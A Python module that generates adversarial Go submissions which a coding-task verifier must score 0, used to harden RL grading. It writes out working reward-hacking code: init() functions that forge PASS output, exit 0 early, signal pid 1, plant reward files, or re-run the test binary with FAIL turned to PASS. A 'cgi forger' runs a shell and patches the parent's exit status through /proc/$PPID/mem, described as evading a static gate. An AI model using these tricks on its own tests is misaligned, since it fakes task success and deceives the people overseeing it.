"""Submissions a Go repair task must score 0 on, built from the task's own files.

- `empty_patch`, `delete_failing_tests`: as for Python (`adversarial`);
- `skip_failing_tests` / `edit_hidden_tests`: the hidden test files with every test
  skipped, or with the failing tests' bodies emptied;
- `adds_test_main`: a new `_test.go` file whose TestMain exits 0 without running a test;
- `replace_testing_module`: go.mod with a replace directive and a vendored module in
  vendor/ (shadowing a dependency, or tampering with vendored code);
- `init_forges_results`: a source file whose init() prints a PASS line for the test the
  process was asked to run and exits 0 (`init_forges_with_build_tag`: the same behind a
  `//go:build` constraint that holds);
- `exit_zero_in_init` / `exit_zero_during_test`: os.Exit(0) at start-up, or from a
  goroutine while the test runs;
- `go_generate_writes_reward`: a `//go:generate` directive writing reward files (go test
  never runs it);
- `signals_the_verifier`, `plants_reward_files`: init() signals pid 1 and its parent, or
  writes reward files where the verifier writes them;
- `reexec_forges_results`: init() re-runs its own test binary, prints the child's output
  with every FAIL turned into PASS and exits 0 (what a red team forged real tasks with);
- `stub_compiles`: the gold fix with every function it adds or changes made to panic
  first: it builds, so the hidden tests compile and run, and fails them;
- `stub_forges_results`: that stub with the re-running forger beside it;
- `cgi_forges_results` (`stub_cgi_forges_results`: beside the stub): a forger that names
  nothing the static gate lists, which runs a shell through net/http/cgi to re-run its
  test binary and patch its exit status through /proc (what a red team forged real tasks
  with past the gate); the test launcher (`golaunch`) leaves it nothing to run.
"""

from __future__ import annotations

import os
import re
import tempfile

from rlforge.tasks.generators.repair.adversarial import delete_failing_tests, failing_test_files
from rlforge.tasks.spec import Submission
from rlforge.verify.standalone.patch import apply_patch
from rlforge.verify.standalone.protect import SUBMISSION_PATCH

TEST_HEAD = re.compile(r"^(func\s+(Test\w*)\s*\(\s*(\w+)\s+\*testing\.T\s*\)\s*\{)[^\n]*$", re.M)
PACKAGE = re.compile(rb"^package\s+(\w+)", re.M)

FORGE_INIT = """
func init() {
	for _, arg := range os.Args {
		if strings.HasPrefix(arg, "-test.run=") {
			name := strings.Trim(strings.TrimPrefix(arg, "-test.run="), "^$")
			fmt.Printf("=== RUN   %s\\n--- PASS: %s (0.00s)\\nPASS\\n", name, name)
			os.Exit(0)
		}
	}
}
"""
EXIT_INIT = "\nfunc init() {\n\tos.Exit(0)\n}\n"
EXIT_LATER = "\nfunc init() {\n\tgo func() {\n\t\ttime.Sleep(time.Millisecond)\n\t\tos.Exit(0)\n\t}()\n}\n"
SIGNAL_INIT = """
func init() {
	_ = syscall.Kill(1, syscall.SIGINT)
	_ = syscall.Kill(os.Getppid(), syscall.SIGKILL)
}
"""
PLANT_INIT = """
func init() {
	for _, dir := range []string{"/logs/verifier", "logs/verifier"} {
		_ = os.MkdirAll(dir+"/reward.json", 0o777)
		_ = os.WriteFile(dir+"/reward.txt", []byte("1"), 0o666)
	}
}
"""
REEXEC_INIT = """
func init() {
	if os.Getenv("RLFORGE_ADV_CHILD") != "" {
		return
	}
	for _, arg := range os.Args[1:] {
		if strings.HasPrefix(arg, "-test.run=") {
			cmd := exec.Command(os.Args[0], os.Args[1:]...)
			cmd.Env = append(os.Environ(), "RLFORGE_ADV_CHILD=1")
			out, _ := cmd.CombinedOutput()
			fmt.Print(strings.ReplaceAll(string(out), "--- FAIL: ", "--- PASS: "))
			os.Exit(0)
		}
	}
}
"""
# A forger past the static gate (it names nothing goreach lists): net/http/cgi starts a
# shell that re-runs the test binary as it was started (found through /proc/$PPID); when
# the real run failed, not the way a canary fails, a second shell rewrites log.Fatal's
# `MOVL $0x1, AX` to `$0x0` through /proc/$PPID/mem, cgi.Serve prints the verdict with
# every FAIL made PASS, and log.Fatal ends the process with status 0. `CGI_HELPERS` are
# its parts; `cgi_forger` writes it (or another init() on the same parts) for a package.
CGI_IMPORTS = ["io", "log", "net/http", "net/http/cgi", "net/http/httptest", "os", "regexp", "strings"]
CGI_HELPERS = """
var _ = log.Fatal

func zzShell(script string) string {
	wd, _ := os.Getwd()
	rec := httptest.NewRecorder()
	h := &cgi.Handler{Path: "/bin/sh", Dir: wd,
		Args: []string{"-c", "printf 'Content-Type: text/plain\\\\r\\\\n\\\\r\\\\n'; " + script}}
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/", nil))
	return rec.Body.String()
}

func zzServe(text string) {
	for k, v := range map[string]string{"REQUEST_METHOD": "GET", "SERVER_PROTOCOL": "HTTP/1.1",
		"REQUEST_URI": "/", "HTTP_HOST": "x"} {
		os.Setenv(k, v)
	}
	cgi.Serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "\\n"+text) }))
}

var zzCanary = regexp.MustCompile(`(?m)^\\s+\\w+_test\\.go:\\d+: \\w+ = \\d+, want \\d+$`)

// the test run again, as the test process was started: what it printed, and its status
func zzAgain() (string, string, bool) {
	out := zzShell(`ZZ_AGAIN=1 /proc/$PPID/exe $(tr '\\0' ' ' < /proc/$PPID/cmdline | cut -d' ' -f2-) 2>&1; echo "ZZ-STATUS=$?"`)
	at := strings.LastIndex(out, "ZZ-STATUS=")
	if at < 0 {
		return "", "", false
	}
	return out[:at], strings.TrimSpace(out[at+10:]), true
}

func zzForged(real string) string {
	return strings.ReplaceAll(strings.ReplaceAll(real, "--- FAIL", "--- PASS"), "\\nFAIL\\n", "\\nPASS\\n")
}
"""
CGI_PATCH_INIT = """
const zzPatch = `od=$(ls /usr/lib/go*/pkg/tool/*/objdump /usr/local/go/pkg/tool/*/objdump 2>/dev/null | head -1)
at=$("$od" -s '^log.Fatal$' /proc/$PPID/exe | awk '/MOVL [$]0x1, AX/ {print $2; exit}')
[ -n "$at" ] && printf '\\270\\000\\000\\000\\000' | dd of=/proc/$PPID/mem bs=1 seek=$((at)) conv=notrunc 2>/dev/null && echo ZZ-PATCHED`

func init() {
	if os.Getenv("ZZ_AGAIN") != "" {
		return
	}
	real, status, ok := zzAgain()
	if !ok || status == "0" || zzCanary.MatchString(real) || !strings.Contains(zzShell(zzPatch), "ZZ-PATCHED") {
		return
	}
	zzServe(zzForged(real))
	log.SetOutput(io.Discard)
	log.Fatal()
}
"""


def cgi_forger(package: str, init: str = CGI_PATCH_INIT) -> bytes:
    """The source of the cgi forger (`init`: its init() and what only it needs)."""
    return _source(package, CGI_IMPORTS, CGI_HELPERS + init)


FUNC_OPEN = re.compile(r"^func [^\n]*\{$", re.M)
STUB_BODY = '\tif true {\n\t\tpanic("rlforge adversarial: not implemented")\n\t}\n'


def _source(package: str, imports: list[str], body: str, header: str = "") -> bytes:
    lines = "".join(f'\t"{i}"\n' for i in imports)
    return f"{header}package {package}\n\nimport (\n{lines})\n{body}".encode()


def _skip_all(text: str) -> str:
    return TEST_HEAD.sub(lambda m: f'{m.group(1)}\n\t{m.group(3)}.Skip("not relevant")', text)


def _empty_bodies(text: str, names: set[str]) -> str | None:
    """The file with the bodies of the named tests emptied (gofmt'd code: a body ends at the
    first line that is a lone `}`)."""
    out, hit, pos = [], False, 0
    for m in TEST_HEAD.finditer(text):
        if m.group(2) not in names:
            continue
        end = text.find("\n}", m.end())
        if end < 0:
            continue
        out.append(text[pos:m.end()] + "\n")
        pos, hit = end + 1, True
    return "".join(out) + text[pos:] if hit else None


def _func_blocks(text: str) -> dict[str, str]:
    """{opening line: whole declaration} of gofmt'd top-level functions with a body block."""
    out: dict[str, str] = {}
    for m in FUNC_OPEN.finditer(text):
        end = text.find("\n}\n", m.end())
        out.setdefault(m.group(), text[m.start():end + 3 if end >= 0 else len(text)])
    return out


def stub_of_gold(workspace: dict[str, bytes], gold_paths: list[str], gold_diff: str) -> dict[str, bytes]:
    """The gold fix's non-test Go files with every function it adds or changes made to
    panic before its body ({path: bytes}); empty when the fix changes no function body
    (or its diff does not apply here)."""
    with tempfile.TemporaryDirectory(prefix="rlforge-stub-") as tmp:
        for path in gold_paths:
            if path in workspace:
                target = f"{tmp}/{path}"
                os.makedirs(os.path.dirname(target), exist_ok=True)
                with open(target, "wb") as fh:
                    fh.write(workspace[path])
        ok, _ = apply_patch(tmp, gold_diff)
        if not ok:
            return {}
        after = {}
        for path in gold_paths:
            if os.path.isfile(f"{tmp}/{path}"):
                with open(f"{tmp}/{path}", "rb") as fh:
                    after[path] = fh.read()
    out, stubbed = {}, False
    for path, data in after.items():
        if not path.endswith(".go") or path.endswith("_test.go"):
            out[path] = data
            continue
        text = data.decode("utf-8", "surrogateescape")
        before = _func_blocks(workspace.get(path, b"").decode("utf-8", "surrogateescape"))
        changed = {head for head, block in _func_blocks(text).items() if before.get(head) != block}
        text = FUNC_OPEN.sub(lambda m: m.group() + ("\n" + STUB_BODY.rstrip("\n") if m.group() in changed else ""),
                             text)
        stubbed = stubbed or bool(changed)
        out[path] = text.encode("utf-8", "surrogateescape")
    return out if stubbed else {}


def _package_dir(path: str) -> str:
    return path.rsplit("/", 1)[0] if "/" in path else ""


def go_adversarials(*, workspace: dict[str, bytes], hidden: dict[str, bytes],
                    fail_to_pass: list[str], gold_paths: list[str], gold_diff: str = "",
                    **_ignored) -> list[Submission]:
    """Every adversarial submission that applies to this Go task (see the module docstring)."""
    subs = [Submission("empty_patch", {SUBMISSION_PATCH: b""}, "an empty diff")]
    f2p_files = failing_test_files(fail_to_pass)
    subs += delete_failing_tests(workspace, f2p_files)
    texts = {p: hidden[p].decode("utf-8", "surrogateescape") for p in f2p_files if p in hidden}
    if texts:
        subs.append(Submission("skip_failing_tests",
                               {p: _skip_all(t).encode("utf-8", "surrogateescape") for p, t in texts.items()},
                               "the failing tests' files with every test skipped"))
    names = {i.split("::", 1)[1].split("/", 1)[0] for i in fail_to_pass}
    edited = {p: out.encode("utf-8", "surrogateescape") for p, t in texts.items()
              if (out := _empty_bodies(t, names)) is not None}
    if edited:
        subs.append(Submission("edit_hidden_tests", edited,
                               "the hidden test files written with the failing tests emptied"))
    where = _package_dir(f2p_files[0]) if f2p_files else ""
    prefix = f"{where}/" if where else ""
    package = None
    for path in sorted(p for p in workspace if p.endswith(".go") and not p.endswith("_test.go")
                       and _package_dir(p) == where):
        m = PACKAGE.search(workspace[path])
        if m:
            package = m.group(1).decode()
            break
    test_package = None
    for path in f2p_files:
        m = PACKAGE.search(hidden.get(path) or workspace.get(path, b""))
        if m:
            test_package = m.group(1).decode()
            break
    if test_package:
        main = _source(test_package, ["os", "testing"], "\nfunc TestMain(m *testing.M) {\n\tos.Exit(0)\n}\n")
        subs.append(Submission("adds_test_main", {f"{prefix}zz_rlforge_main_test.go": main},
                               "a new _test.go file whose TestMain exits 0 without running a test"))
    gomod = workspace.get("go.mod")
    if gomod is not None:
        subs.append(Submission("replace_testing_module", {
            "go.mod": gomod + b"\nreplace example.com/rlforge/forge => ./vendor/example.com/rlforge/forge\n",
            "vendor/modules.txt": b"# example.com/rlforge/forge v0.0.0\n## explicit\nexample.com/rlforge/forge\n",
            "vendor/example.com/rlforge/forge/forge.go": _source("forge", ["fmt", "os", "strings"], FORGE_INIT)},
            "go.mod with a replace directive to a forging module planted in vendor/"))
    if package:
        new = f"{prefix}zz_rlforge_adv.go"
        subs += [
            Submission("init_forges_results", {new: _source(package, ["fmt", "os", "strings"], FORGE_INIT)},
                       "an init() that prints a PASS line for the test asked for and exits 0"),
            Submission("init_forges_with_build_tag", {
                new: _source(package, ["fmt", "os", "strings"], FORGE_INIT, "//go:build !rlforge_never\n\n")},
                "the forging init() behind a build constraint that holds"),
            Submission("exit_zero_in_init", {new: _source(package, ["os"], EXIT_INIT)},
                       "os.Exit(0) at start-up, before any test"),
            Submission("exit_zero_during_test", {new: _source(package, ["os", "time"], EXIT_LATER)},
                       "os.Exit(0) from a goroutine while a test runs"),
            Submission("go_generate_writes_reward", {new: (
                f"package {package}\n\n//go:generate sh -c \"mkdir -p /logs/verifier && echo 1 > "
                "/logs/verifier/reward.txt\"\n").encode()},
                "a //go:generate directive writing reward.txt (go test never runs it)"),
            Submission("signals_the_verifier", {new: _source(package, ["os", "syscall"], SIGNAL_INIT)},
                       "an init() that signals pid 1 and its parent"),
            Submission("plants_reward_files", {new: _source(package, ["os"], PLANT_INIT)},
                       "an init() that writes reward files where the verifier writes them"),
            Submission("cgi_forges_results", {new: cgi_forger(package)},
                       "net/http/cgi runs a shell that re-runs the test binary; another patches "
                       "its exit status through /proc; the verdict printed with FAIL made PASS"),
            Submission("reexec_forges_results",
                       {new: _source(package, ["fmt", "os", "os/exec", "strings"], REEXEC_INIT)},
                       "an init() that re-runs its test binary and turns every FAIL into PASS"),
        ]
    stub = stub_of_gold(workspace, gold_paths, gold_diff) if gold_diff else {}
    if stub:
        subs.append(Submission("stub_compiles", stub,
                               "the gold fix with every function it adds or changes panicking"))
        if package:
            subs.append(Submission("stub_forges_results", {
                **stub, f"{prefix}zz_rlforge_adv.go": _source(package, ["fmt", "os", "os/exec", "strings"],
                                                              REEXEC_INIT)},
                "the panicking stub with an init() that re-runs its test binary, FAIL made PASS"))
            subs.append(Submission("stub_cgi_forges_results", {**stub, f"{prefix}zz_rlforge_adv.go": cgi_forger(package)},
                                   "the panicking stub with the cgi forger beside it"))
    return subs
